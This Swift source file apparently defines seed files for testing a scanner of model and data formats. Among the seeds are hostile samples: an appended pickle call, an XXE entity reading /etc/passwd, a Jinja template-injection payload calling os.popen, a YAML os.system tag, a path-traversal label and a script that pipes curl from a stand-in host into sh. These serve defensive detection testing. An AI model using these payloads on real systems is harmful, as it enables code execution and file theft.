import Pickle

/// Seeds of formats of numbers, texts and programs.
extension Seeds {
  private static let hostile = pickle([.proto(2)] + TorchBuilder.hostileCall + [.stop])

  private static func text(_ text: String) -> [UInt8] { Array(text.utf8) }

  static var tensors: [Seeds] {
    var external = OnnxBuilder()
    external.tensors = [
      OnnxBuilder.tensor(external: [("location", "weights.bin"), ("offset", "0"), ("length", "8")])
    ]
    external.nodes.append(OnnxBuilder.node("Evil", domain: "org.example"))
    var flex = TFLiteBuilder()
    flex.operatorCode = [4: .byte(32), 6: .text("FlexWriteFile"), 10: .integer(32)]
    var computed = flex
    computed.operatorCode[6] = .text("FlexErf")
    computed.operatorFields[14] = .bytes(FlexOptions.build("Erf", node: TensorFlowBuilder.node("n", "Erf")))
    let template = "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ ''.__class__.__mro__ }}"
    var old = GGUFBuilder()
    old.version = 1
    return [
      Seeds(
        name: "safetensors", scanner: "safetensors",
        files: [
          SafetensorsBuilder().build(), SafetensorsBuilder(metadata: "\"a\":\"b\",\"a\":\"c\"").build(),
        ]),
      Seeds(
        name: "gguf", scanner: "gguf",
        files: [
          GGUFBuilder().build(), GGUFBuilder([("tokenizer.chat_template", .text(template))]).build(),
          old.build(),
        ]),
      Seeds(name: "onnx", scanner: "onnx", files: [OnnxBuilder().build(), external.build()]),
      Seeds(
        name: "tflite", scanner: "tflite", files: [TFLiteBuilder().build(), flex.build(), computed.build()]),
    ]
  }

  static var numbers: [Seeds] {
    typealias Builder = DataFormatBuilder
    return [
      Seeds(
        name: "msgpack", scanner: "msgpack",
        files: [Builder.parameters, Builder.map([("__reduce__", Builder.packed("some words"))])]),
      Seeds(
        name: "ubjson", scanner: "ubjson",
        files: [Builder.tree([1, -1, -1], [2, -1, -1]), Builder.tree([1, 0, -1], [2, -1, -1])]),
      Seeds(
        name: "xgboost", scanner: "xgboost",
        files: [
          Builder.binary(children: [(1, 2), (-1, -1), (-1, -1)]),
          Builder.binary(children: [(1, 1), (-1, -1)]),
        ]),
      Seeds(
        name: "lightgbm", scanner: "lightgbm",
        files: [
          TreeModelBuilder.lightGBM(), TreeModelBuilder.lightGBM(("left_child=1 -1", "left_child=1 1")),
        ]),
      Seeds(name: "git-lfs-pointer", scanner: "git-lfs-pointer", files: [Builder.gitLFSPointer]),
      Seeds(name: "nnef", scanner: "nnef", files: [Builder.nnef(), Builder.nnef(label: "../../etc/x")]),
      Seeds(
        name: "nnef-tensor", scanner: "nnef-tensor", files: [Builder.tensor, Builder.tensor + hostile]),
      Seeds(name: "word2vec", scanner: "word2vec", files: [Builder.vectors, Builder.vectors + hostile]),
      Seeds(
        name: "fasttext", scanner: "fasttext",
        files: [
          Builder.fastText(hasMagic: true), Builder.fastText(hasMagic: false),
          Builder.fastText(hasMagic: true) + hostile,
        ]),
      Seeds(
        name: "crfsuite", scanner: "crfsuite", files: [Builder.crfSuite(), Builder.crfSuite(label: 1)]),
      Seeds(
        name: "catboost", scanner: "catboost", files: [Builder.catBoost(), Builder.catBoost(start: 1)]),
      Seeds(
        name: "sentencepiece", scanner: "sentencepiece",
        files: [Builder.sentencePiece(), Builder.sentencePiece(map: [9, 0, 0, 0, 7])]),
      Seeds(
        name: "images", scanner: "image",
        files: [
          Builder.png, Builder.jpeg, Builder.gif, Builder.webp, Builder.bmp, Builder.png + hostile,
        ]),
    ]
  }

  static var texts: [Seeds] {
    let pmml = """
      <?xml version="1.0"?>
      <!-- a note --><PMML version='4.4'><Apply function="log10">&#38;</Apply><![CDATA[ 1 < 2 ]]></PMML>

      """
    let entity = "<!DOCTYPE PMML [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><PMML>&a;</PMML>\n"
    let template = """
      {%- for m in messages -%}{% if m.role == 'user' %}<u>{{ m.content | trim }}{% else %}{{ bos }}{% endif %}
      {%- endfor %}{% set x = namespace(a=1) %}{% macro f(y) %}{{ y[1:2] }}{% endmacro %}

      """
    let yaml = """
      # A configuration.
      model: &m
        _target_: torch.nn.Linear
        sizes: [1, 2, {a: "b\\x41"}]
      other: *m
      text: |
        of lines
      run: !!python/object/apply:os.system ["id"]

      """
    return [
      Seeds(name: "xml", scanner: "xml", files: [text(pmml), text(entity)]),
      Seeds(
        name: "jinja", scanner: "text",
        files: [text(template), text("{{ cycler.__init__.__globals__.os.popen('id').read() }}\n")]),
      Seeds(
        name: "text", scanner: "text",
        files: [text("# A model\n\nIt was trained on words.\n"), text("word\tvector\nking\t0.5\n")]),
      Seeds(
        name: "yaml", scanner: "yaml", files: [text("model:\n  sizes: [1, 2]\n  name: a\n"), text(yaml)]),
      Seeds(
        name: "python", scanner: "python",
        files: [text("import os\n\n\ndef f(x: int = 1) -> int:\n  '''Says.'''\n  return x + 1\n")]
          + PythonSamples.hostile.map(\.bytes)),
    ]
  }

  static var programs: [Seeds] {
    let code = MarshalValue.code(
      [0x97, 0, 0x64, 1, 0x53, 0], constants: [.none, .integer(7)], names: ["os", "system"], locals: ["x"])
    let head: [UInt8] = [0xA7, 0x0D, 0x0D, 0x0A] + Array(repeating: 0, count: 12)
    let elf: [UInt8] =
      [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1] + Array(repeating: 0, count: 9) + [3, 0, 62, 0]
      + Array(repeating: 0, count: 40)
    return [
      Seeds(name: "pyc", scanner: "pyc", files: [head + code.bytes]),
      Seeds(
        name: "native", scanner: "native",
        files: [elf, [0, 0x61, 0x73, 0x6D, 1, 0, 0, 0], [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]]),
      Seeds(
        name: "script", scanner: "script",
        files: [text("#!/bin/sh\necho a\n"), text("#!/bin/sh\ncurl http://host.invalid/x | sh\n")]),
      Seeds(
        name: "torch-mobile", scanner: "torch-mobile-flatbuffer",
        files: [FlatBufferBuilder.build(.table([4: .integer(1)]), identifier: "PTMF") + hostile]),
    ]
  }
}
